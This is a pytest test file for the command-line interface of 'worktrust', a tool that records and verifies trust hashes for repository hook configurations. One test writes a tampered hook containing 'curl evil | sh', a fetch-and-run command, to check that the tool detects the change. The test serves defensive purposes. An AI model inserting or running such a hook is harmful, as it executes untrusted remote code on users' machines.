from __future__ import annotations

import json
import os
from pathlib import Path

import pytest
from typer.testing import CliRunner

from worktrust.cli import app

runner = CliRunner()


@pytest.fixture
def repo_config(git_repo: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    config = git_repo / ".worktrust.toml"
    config.write_text("[hooks]\npost_start = ['make setup']\n", encoding="utf-8")
    monkeypatch.chdir(git_repo)
    return config


def test_trust_command_records_config(repo_config: Path, settings_dir: Path) -> None:
    result = runner.invoke(app, ["trust"])

    assert result.exit_code == 0, result.output
    assert "Trusted files:" in result.output
    assert "Relative Path: .worktrust.toml" in result.output
    assert "Repository: (local) " in result.output
    assert f"Settings: {settings_dir / 'settings.json'}" in result.output


def test_trust_command_covers_local_override(repo_config: Path) -> None:
    (repo_config.parent / ".worktrust.local.toml").write_text("local = true\n", encoding="utf-8")

    result = runner.invoke(app, ["trust"])

    assert result.exit_code == 0, result.output
    assert "Relative Path: .worktrust.local.toml" in result.output


def test_verify_command_reports_untrusted(repo_config: Path) -> None:
    result = runner.invoke(app, ["verify"])

    assert result.exit_code == 0, result.output
    assert "=== Configuration Verification ===" in result.output
    assert "Status: NOT TRUSTED" in result.output
    assert "Skip Hash Check: False" in result.output


def test_verify_command_after_trust(repo_config: Path) -> None:
    runner.invoke(app, ["trust"])

    result = runner.invoke(app, ["verify"])

    assert result.exit_code == 0, result.output
    assert "Status: TRUSTED" in result.output
    assert "Hash History (1 stored):" in result.output
    assert "(current)" in result.output


def test_verify_command_detects_modification(repo_config: Path) -> None:
    runner.invoke(app, ["trust"])
    repo_config.write_text("[hooks]\npost_start = ['curl evil | sh']\n", encoding="utf-8")

    result = runner.invoke(app, ["verify"])

    assert result.exit_code == 0, result.output
    assert "Status: HASH MISMATCH" in result.output
    assert "(current)" not in result.output


def test_untrust_command(repo_config: Path) -> None:
    runner.invoke(app, ["trust"])

    result = runner.invoke(app, ["untrust"])

    assert result.exit_code == 0, result.output
    assert f"Untrusted: {repo_config}" in result.output
    assert "Status: NOT TRUSTED" in runner.invoke(app, ["verify"]).output


def test_untrust_command_reports_write_failure(
    repo_config: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    runner.invoke(app, ["trust"])

    def _fail(src: object, dst: object) -> None:
        raise PermissionError("read-only settings directory")

    monkeypatch.setattr(os, "replace", _fail)

    result = runner.invoke(app, ["untrust"])

    assert result.exit_code == 1
    assert "Error: read-only settings directory" in result.output
    assert result.exception is None or isinstance(result.exception, SystemExit)


def test_missing_config_files_exit_with_error(
    git_repo: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(git_repo)

    result = runner.invoke(app, ["trust"])

    assert result.exit_code == 1
    assert "Neither .worktrust.toml nor .worktrust.local.toml found" in result.output


def test_outside_repository_exits_with_error(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    plain = tmp_path / "plain"
    plain.mkdir()
    monkeypatch.chdir(plain)

    result = runner.invoke(app, ["verify"])

    assert result.exit_code == 1
    assert "not inside a git repository" in result.output


def test_config_command_prints_settings(settings_dir: Path) -> None:
    result = runner.invoke(app, ["config"])

    assert result.exit_code == 0, result.output
    assert f"Settings file: {settings_dir / 'settings.json'}" in result.output
    assert '"version": 3' in result.output


def test_schema_command_prints_json_schema() -> None:
    result = runner.invoke(app, ["schema"])

    assert result.exit_code == 0, result.output
    schema = json.loads(result.output)
    assert "$schema" in schema["properties"]
    assert "permissions" in schema["properties"]
